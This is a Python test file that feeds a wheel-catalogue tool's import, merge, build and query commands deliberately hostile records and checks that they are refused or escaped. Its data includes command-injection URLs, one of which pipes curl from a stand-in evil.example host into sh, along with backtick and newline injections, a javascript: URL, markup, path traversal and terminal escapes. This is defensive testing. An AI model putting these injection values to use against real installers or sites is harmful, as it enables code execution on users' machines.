"""Hostile records, as an old cache or a careless merge could bring them:
`db import` of the committed site records plus records
with markup in the variant, a key that is not the file's, a variant that is
a number, a file name that is not a key (one with a terminal escape too),
unparsable JSON, an inferred_from that is a path, a javascript: URL, a bad
target name, a member path with an escape sequence, a date with markup, a
URL with a fragment; index URLs that would steer the install command (shell
metacharacters, another host, user info, a newline, 10 MB, an id that is
not the index's), a wheel URL with user info; two versions wheelarch does
not store, 1!2.0 (an epoch, whose '!' interactive bash and zsh expand) and
1_2.0 (not PEP 440), that once shared one page path (and failed every
build); one valid record whose member paths hold quotes, markup and
spaces.

Checks: import's exit status 3 and exactly one warning per invalid record,
naming its file (control characters escaped) and the reason, and nothing of
it in the database; a database edited by hand past the checks makes
`build` and `query` skip that wheel with one warning each; the valid hostile-looking
record rendered with its paths escaped; no markup from the records
anywhere in the site, no page for 1!2.0 or 1_2.0, and every
relative link of every page leading to a file of the site; no simple-index
link with two '#'; every id of every HTML page matches [A-Za-z0-9_-]+,
is unique in its page, and every aria-labelledby names one; the rest of the
site built, byte-identical on a second build; `query` warns the same way."""
import copy
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "lib"))
import watest  # noqa: E402

args = watest.parse_args()
c = watest.Checker()
W = args.work
FIXTURE = os.path.join(watest.FIXTURES, "site-db")
SCANNED = "dbb3ef635357a2eb037f857bf739f5307f725ec56d2808c2aee868a0b38cb2c7"  # torch 2.9.0 cu130 linux
ROCM = "e3ef5d7f5a8051663e14cac8eb71d7fd1be3a4bb3de166b5dc02c6493d34a785"  # torch 2.9.0 rocm6.4
INFERRED = "6d57af775f6306db16090bf182bfe9af59f439304179e34645acef0b3c8cf054"  # torch 2.9.0 cu128 cp313

incoming = os.path.join(W, "incoming")
shutil.copytree(FIXTURE, incoming)
RECORDS = os.path.join(incoming, "records")
db = os.path.join(W, "db")


def load(key):
    with open(os.path.join(RECORDS, key + ".json")) as f:
        return json.load(f)


def put(name, rec=None, text=None):
    with open(os.path.join(RECORDS, name + ".json"), "w") as f:
        f.write(text if text is not None else json.dumps(rec, indent=2, sort_keys=True) + "\n")


def key(ch):
    return ch * 64


# ---- the hostile records: file name -> what its warning must say -------------
invalid = {}


def bad(name, rec, reason, text=None):
    put(name, rec, text)
    invalid[name] = reason


r = load(ROCM)
r.update(key=key("1"), sha256=key("1"), variant="rocm6<b>INJ</b>")
bad(key("1"), r, 'variant "rocm6<b>INJ</b>" is not a variant id')

r = load(SCANNED)
r.update(key=key("3"))
bad(key("2"), r, 'the record\'s "key" is not the key it is stored under (%s)' % key("2"))

r = load(SCANNED)
r.update(key=key("4"), variant=7)
bad(key("4"), r, "variant is an integer, not a string")

bad("evil", load(SCANNED), '"evil" is not a record key')

r = load(INFERRED)
r.update(key=key("5"), inferred_from="../../x")
bad(key("5"), r, 'inferred_from "../../x" is not a record key')

bad(key("6"), None, "line ", text='{"key": "%s", "variant": \n' % key("6"))

r = load(SCANNED)
r.update(key=key("7"), url="javascript:alert(1)")
bad(key("7"), r, 'url "javascript:alert(1)" is not an http(s) URL')

r = load(SCANNED)
r.update(key=key("8"), sass=["sm_80", "sm_9x"])
bad(key("8"), r, 'sass "sm_9x" is not a target name')

r = load(SCANNED)
r["key"] = key("9")
r["binaries"][0]["path"] = "torch/lib/\x1b[2Jlibx.so"
bad(key("9"), r, 'binaries[0].path "torch/lib/\\x1b[2Jlibx.so" is not a member path')

r = load(SCANNED)
r.update(key=key("a"), scanned_at="2026-11-01<script>x</script>")
bad(key("a"), r, "scanned_at")

r = load(SCANNED)
r.update(key=key("b"), wheel=dict(r["wheel"], normalized_name="torch<b>INJ</b>"))
bad(key("b"), r, "wheel.normalized_name")

r = load(SCANNED)
r.update(key=key("c"), filename="torch-2.9.0+cu130-cp312-cp312-manylinux_2_28_x86_64<b>INJ</b>.whl")
bad(key("c"), r, "filename")

CTRL = "bad\x1b[31mname"  # a file name with a terminal escape in it
bad(CTRL, load(SCANNED), "is not a record key")

# A URL with a fragment: the crawler strips fragments, and the simple index
# appends its own "#sha256=", which gave "...#frag#sha256=".
r = load(SCANNED)
r.update(key=key("e"), sha256=key("e"), index_sha256=key("e"),
         url=r["url"] + "#frag")
bad(key("e"), r, '" is not an http(s) URL')  # the URL is quoted cut short

# Index URLs that would steer the command every page prints: refused at
# import, whatever else the record holds (tests/cli/test_shells.py runs the
# commands that are printed).
STEER = {
    "ab" * 32: ("https://download.pytorch.org/whl/cu130/$(curl${IFS}-s${IFS}evil.example|sh)/",
                    "is not an index URL (http(s)://HOST[:PORT]/PATH/"),
    "ac" * 32: ("https://evil.example/whl/cu130/", "is neither download.pytorch.org's index cu130"),
    "ad" * 32: ("https://download.pytorch.org/whl/cu126/", "is neither download.pytorch.org's index cu130"),
    "ae" * 32: ("https://ci:hunter2@download.pytorch.org/whl/cu130/", 'index_url "https://***@download.pytorch.org/whl/cu130/" holds user info'),
    "af" * 32: ("https://download.pytorch.org/whl/cu130/\npip install evil", "is not an index URL"),
    "ba" * 32: ("https://download.pytorch.org/whl/" + "a" * (10 << 20) + "/", "index_url is"),
    "bc" * 32: ("https://download.pytorch.org/whl/cu130/'`id`'/", "is not an index URL"),
}
for k, (u, why) in STEER.items():
    r = load(SCANNED)
    r.update(key=k, sha256=k, index_sha256=k, index_url=u)
    bad(k, r, why)
r = load(SCANNED)
r.update(key="bd" * 32, url="https://ci:hunter2@download.pytorch.org/whl/cu130/" + r["filename"].replace("+", "%2B"))
bad("bd" * 32, r, 'url "https://***@download.pytorch.org/whl/cu130/torch-2.9.0%2Bcu130-cp312-cp312-manyl..." holds user info')

# The valid one: torch 2.7.0 cu130 with member paths full of quotes, markup
# and spaces (member names are any bytes a zip holds).
HOSTILE_OK = key("d")
PATHS = ['a"><script>x</script>/libx.so', "torch/lib/my lib's \"x\".so", "torch/lib/a b.so",
         "torch/lib/a_b.so"]
r = load(SCANNED)
fname = "torch-2.7.0+cu130-cp312-cp312-manylinux_2_28_x86_64.whl"
r.update(key=HOSTILE_OK, sha256=HOSTILE_OK, index_sha256=HOSTILE_OK, filename=fname,
         url="https://download.pytorch.org/whl/cu130/" + fname.replace("+", "%2B"),
         wheel=dict(r["wheel"], version="2.7.0+cu130", public_version="2.7.0", filename=fname))
template = r["binaries"][0]
r["binaries"] = []
for p in PATHS:
    b = copy.deepcopy(template)
    b["path"] = p
    r["binaries"].append(b)
put(HOSTILE_OK, r)


# Two versions that differ only in '!' and '_': they once mapped to one
# page, release/torch/1_2.0/, and every build failed with "output path ...
# written twice".  Neither is stored now: 1!2.0 has an epoch, 1_2.0 is not
# a PEP 440 version.
def release(k, version, why):
    rec = load(SCANNED)
    fn = "torch-%s+cu126-cp312-cp312-manylinux_2_28_x86_64.whl" % version
    rec.update(key=k, sha256=k, index_sha256=k, filename=fn, variant="cu126", index="cu126", indexes=["cu126"],
               url="https://download.pytorch.org/whl/cu126/" + fn.replace("+", "%2B"),
               index_url="https://download.pytorch.org/whl/cu126/",
               wheel=dict(rec["wheel"], version=version + "+cu126", public_version=version,
                          local="cu126", filename=fn))
    bad(k, rec, why)


BANG, UNDER = key("f"), "0" * 64
release(BANG, "1!2.0", "its version has an epoch (N!)")
release(UNDER, "1_2.0", 'filename "torch-1_2.0+cu126-cp312-cp312-manylinux_2_28_x86_64.whl" is not a wheel file name')
RELEASE_PAGES = {"release/torch/1_212.0/index.html": "1!2.0", "release/torch/1_5f2.0/index.html": "1_2.0"}

# ---- import: the invalid ones refused, one line each ------------------------------
p = subprocess.run([args.wheelarch, "db", "import", incoming, "--cache", db], capture_output=True,
                   timeout=300)
err = p.stderr.decode("utf-8", "replace")
c.eq(p.returncode, 3, "import exit status with refused records (stderr: %s)" % err.strip())
c.ok("\x1b" not in err, "no raw escape character reaches the terminal")
lines = [line for line in err.splitlines() if line.endswith("; refused")]
c.eq(len(lines), len(invalid), "one warning per invalid record:\n  " + "\n  ".join(lines))
shown = {CTRL: "bad\\x1b[31mname"}
for name, reason in sorted(invalid.items()):
    prefix = "wheelarch: %s/%s.json: " % (RECORDS, shown.get(name, name))
    mine = [line for line in lines if line.startswith(prefix)]
    if c.eq(len(mine), 1, "exactly one warning names %s.json" % shown.get(name, name)):
        c.ok(reason in mine[0][len(prefix):], "the warning for %s.json says %r: %s"
             % (shown.get(name, name), reason, mine[0]))
c.ok(not any(HOSTILE_OK in line for line in lines), "the valid hostile-looking record is not refused")
c.ok("14 records added" in err, "13 fixture records and the valid new one stored: " + err.strip())
c.ok("hunter2" not in err, "no message shows the user info")
stored = watest.records(db)
c.eq(sorted(k for k in invalid if k in stored), [], "no refused record is in the database")
c.eq(watest.integrity(db), "ok", "the database passes integrity_check")

# ---- merge: a shard carrying one of the steering records is refused whole ----------
# The shard is a copy of the good database with one record's JSON edited
# by hand (wheelarch would not write it), as a hostile machine could.
for n, (k, (u, why)) in enumerate(sorted(STEER.items())[:4]):
    shard = os.path.join(W, "shard%d" % n)
    shutil.rmtree(shard, ignore_errors=True)
    shutil.copytree(db, shard)
    con = sqlite3.connect(watest.db_path(shard))
    with con:
        rec = json.loads(con.execute("SELECT record FROM records WHERE key = ?", (SCANNED,)).fetchone()[0])
        rec["index_url"] = u
        con.execute("UPDATE records SET record = ? WHERE key = ?", (json.dumps(rec, sort_keys=True), SCANNED))
        con.execute("UPDATE wheels SET index_url = ? WHERE key = ?", (u, SCANNED))
    con.close()
    target = os.path.join(W, "merged%d" % n)
    shutil.rmtree(target, ignore_errors=True)
    p = subprocess.run([args.wheelarch, "merge", "--cache", target, watest.db_path(shard)], capture_output=True,
                       text=True, timeout=300, cwd=W)
    c.ok(p.returncode == 1 and why in p.stderr and "refused" in p.stderr and not watest.records(target)
         and "hunter2" not in p.stderr,
         "merge of a shard whose record has index_url %r: refused whole, nothing stored (%s)"
         % (u[:80], p.stderr.strip()[-300:]))

# A row edited by hand past the checks (markup in the variant): build and
# query leave that wheel out, with one warning naming the database.
EDITED = key("1")
con = sqlite3.connect(watest.db_path(db))
with con:
    # a copy of a good row, whatever the schema's columns, then edited
    con.execute("CREATE TEMP TABLE copy AS SELECT * FROM wheels WHERE key = ?", (ROCM,))
    con.execute("UPDATE copy SET key = ?, variant = 'rocm6<b>INJ</b>'", (EDITED,))
    con.execute("INSERT INTO wheels SELECT * FROM copy")
    con.execute("INSERT INTO records SELECT ?, record FROM records WHERE key = ?", (EDITED, ROCM))
con.close()

# ---- build -----------------------------------------------------------------
site = os.path.join(W, "site")


def build(out):
    return subprocess.run([args.wheelarch, "build", "--cache", db, "--out", out], capture_output=True,
                          timeout=300)


p = build(site)
err = p.stderr.decode("utf-8", "replace")
c.eq(p.returncode, 3, "build exit status with a skipped wheel (stderr: %s)" % err.strip())
c.ok("written twice" not in err, "no output path written twice")
skipped = [line for line in err.splitlines() if line.endswith("; record skipped")]
c.eq(len(skipped), 1, "one warning for the edited row: %s" % skipped)
c.ok(skipped and "wheelarch.db: wheel %s: the variant is not a variant id" % EDITED in skipped[0],
     "it names the database, the wheel and the reason: %s" % skipped)
c.ok("pages from 14 records" in err, "the 14 stored records rendered: " + err.strip())

# ---- nothing from the records reaches a page as markup ------------------------
files = []
for d, _, names in os.walk(site):
    for n in names:
        files.append(os.path.relpath(os.path.join(d, n), site))
raw = {}
for f in files:
    with open(os.path.join(site, f), "rb") as fh:
        raw[f] = fh.read()
for needle in (b"<b>INJ", b"<script>x", b"javascript:", b"\x1b"):
    # the SQLite feed is binary (its record headers hold any byte): its
    # values are checked below
    hits = [f for f, data in raw.items() if needle in data and not f.endswith(".sqlite")]
    c.eq(hits, [], "files holding %r raw" % needle)
con = sqlite3.connect("file:%s?mode=ro" % os.path.join(site, "api/v1/wheelarch.sqlite"), uri=True)
try:
    values = [v for t in ("meta", "builds", "gpus") for row in con.execute("SELECT * FROM " + t) for v in row
              if isinstance(v, str)]
finally:
    con.close()
c.ok(values and not [v for v in values if any(ord(ch) < 32 for ch in v)],
     "wheelarch.sqlite: no control character in any value (%d values)" % len(values))

wp = raw.get("wheel/%s.html" % HOSTILE_OK, b"").decode()
c.ok(wp != "", "the page of the valid hostile-looking wheel is built")
c.ok("<code>a&quot;&gt;&lt;script&gt;x&lt;/script&gt;/libx.so</code>" in wp,
     "its member path with markup shows as text")
c.ok("my lib&#39;s &quot;x&quot;.so" in wp, "its member path with quotes shows as text")
rp = raw.get("release/torch/2.7.0/index.html", b"").decode()
c.ok("a&quot;&gt;&lt;script&gt;x&lt;/script&gt;/libx.so" in rp and "torch/lib/a b.so" in rp,
     "the release page lists the member paths, escaped")


# ---- no page of 1!2.0 or 1_2.0, no steered URL anywhere, and every link
# inside the site works -------------------------------------------------------
for f, version in sorted(RELEASE_PAGES.items()):
    c.ok(f not in raw, "no page for torch %s (refused at import)" % version)
for needle in (b"evil.example", b"hunter2", b"$(curl", b"`id`"):
    c.eq([f for f, data in raw.items() if needle in data], [], "files holding %r" % needle)


def hrefs_of(text):
    return [a["href"] for _, a in watest.start_tags(text, ("a",)) if a.get("href")]


def target_of(page, href):
    """The site file a relative link from page leads to, or None for a link
    that leaves the site."""
    if re.match(r"[a-z][a-z0-9+.-]*:", href) or href.startswith("//") or href.startswith("#"):
        return None
    path = urllib.parse.unquote(href.split("#")[0].split("?")[0])
    t = os.path.normpath(os.path.join(os.path.dirname(page), path))
    if href.split("#")[0].endswith("/") or t == ".":
        t = os.path.join(t, "index.html") if t != "." else "index.html"
    return t


broken, to_releases = [], set()
for f in files:
    if not f.endswith(".html"):
        continue
    for h in hrefs_of(raw[f].decode()):
        t = target_of(f, h)
        if t is None:
            continue
        if t not in raw:
            broken.append("%s -> %s" % (f, h))
        if t in RELEASE_PAGES:
            to_releases.add(t)
c.eq(broken[:10], [], "links to files the site does not have")
c.eq(sorted(to_releases), [], "no page links to a release page of a refused version")

# ---- no link with two fragments (the '#frag' record is refused; the
# simple index adds "#sha256=" to URLs that have none) ---------------------------
two = [f for f, data in raw.items() if f.startswith("simple/") and re.search(rb'href="[^"#]*#[^"#]*#', data)]
c.eq(two, [], "simple-index links with two '#'")
c.ok(not any(b"#frag" in data for data in raw.values()), "the URL with a fragment reaches no page")

# ---- ids ---------------------------------------------------------------------
def ids_of(text):
    """The ids of a page's elements and the ids its labels name."""
    ids, refs = [], []
    for _, a in watest.start_tags(text):
        for k, v in a.items():
            if k == "id":
                ids.append(v or "")
            elif k in ("aria-labelledby", "aria-describedby", "for"):
                refs.extend((v or "").split())
    return ids, refs


ID = re.compile(r"[A-Za-z0-9_-]+\Z")
pages = [f for f in files if f.endswith(".html")]
bad_ids, dup_ids, dangling = [], [], []
for f in pages:
    ids, refs = ids_of(raw[f].decode())
    bad_ids += ["%s: %r" % (f, i) for i in ids if not ID.match(i)]
    seen = set()
    for i in ids:
        if i in seen:
            dup_ids.append("%s: %s" % (f, i))
        seen.add(i)
    dangling += ["%s: %s" % (f, r) for r in refs if r not in seen]
c.ok(len(pages) > 300, "a few hundred pages (%d)" % len(pages))
c.eq(bad_ids[:10], [], "ids outside [A-Za-z0-9_-]")
c.eq(dup_ids[:10], [], "ids used twice in a page")
c.eq(dangling[:10], [], "aria-labelledby / for naming no id of the page")
c.eq(sorted(i for i in ids_of(wp)[0] if i.startswith("bin-")), ["bin-1", "bin-2", "bin-3", "bin-4"],
     "the wheel page's tables are named by place")

# ---- the rest of the site ---------------------------------------------------------
for f in ("index.html", "matrix/index.html", "changes/index.html", "changes.atom",
          "wheel/%s.html" % SCANNED, "release/torch/2.9.0/index.html",
          "gpu/geforce-rtx-3090/index.html", "gpu/amd-radeon-rx-7900-xtx/index.html",
          "simple/sm_86/torch/index.html", "api/v1/matrix.csv"):
    c.ok(f in raw, "%s is built" % f)
for f in ("api/v1/matrix.json", "api/v1/gpus.json", "api/v1/index-table.json", "api/v1/variants.json"):
    try:
        json.loads(raw[f])
        c.ok(True, f)
    except (KeyError, ValueError) as e:
        c.ok(False, "%s is JSON: %s" % (f, e))
matrix = json.loads(raw.get("api/v1/matrix.json", b"{}"))
variants = {r["variant"] for r in matrix.get("rows", [])}
c.ok("rocm6.4" in variants and not any("<" in v for v in variants), "matrix.json: variants as expected")
c.ok(any(r["version"] == "2.7.0" and r["status"] == "verified" for r in matrix.get("rows", [])),
     "matrix.json: the valid new record's row")
c.ok(not any(f.startswith("wheel/") and any(k in f for k in (key("1"), key("2"), "evil")) for f in files),
     "no page for a skipped record")

site2 = os.path.join(W, "site2")
p2 = build(site2)
c.eq(p2.returncode, 3, "second build exit status")
same = True
for f, data in raw.items():
    try:
        with open(os.path.join(site2, f), "rb") as fh:
            same = same and fh.read() == data
    except OSError:
        same = False
c.ok(same, "a second build is byte-identical (ids are deterministic)")

# ---- query ---------------------------------------------------------------------------
q = subprocess.run([args.wheelarch, "query", "--cc", "8.6", "--platform", "linux-x86_64", "--cache", db],
                   capture_output=True, timeout=120)
qerr = q.stderr.decode("utf-8", "replace")
c.eq(q.returncode, 0, "query exit status (%s)" % qerr.strip())
qlines = [line for line in qerr.splitlines() if line.endswith("; record skipped")]
c.eq(len(qlines), 1, "query: one warning for the edited row: %s" % qlines)
c.ok("\x1b" not in qerr, "query: no raw escape character on the terminal")
c.ok("<b>INJ" not in q.stdout.decode("utf-8", "replace"), "query: no hostile variant in its answer")

c.done()
